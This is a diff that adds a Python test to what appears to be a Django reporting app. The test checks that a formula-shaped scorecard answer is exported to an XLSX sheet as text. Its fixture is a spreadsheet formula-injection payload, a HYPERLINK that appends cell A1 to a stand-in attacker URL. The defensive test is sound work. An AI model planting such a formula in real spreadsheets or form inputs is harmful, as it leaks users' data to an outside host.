@@ -214,3 +214,18 @@ def test_the_scorecard_adds_the_same_few_queries_however_many_answers(
     assert every_answer == three_answers <= 12
     # The reader's access to the Scorecard, and its answers with questions and Essentials.
     assert every_answer - none == 2
+
+
+def test_a_scorecard_answer_that_looks_like_a_formula_stays_text(
+    client, assessment, scorecard, editor
+):
+    """Catches the sheet's texts written around rendering.sheets, where "=" makes a formula."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    _answer(scorecard, "P3.1", editor, score=1, verification=formula)
+    client.force_login(editor)
+    response = client.get(reverse("reports:xlsx", args=["glasgow", assessment.pk]))
+    sheet = load_workbook(io.BytesIO(response.content))["Scorecard"]
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "P3.1")
+    cell = row[header.index("Means of verification")]
+    assert cell.data_type == "s" and cell.value == formula
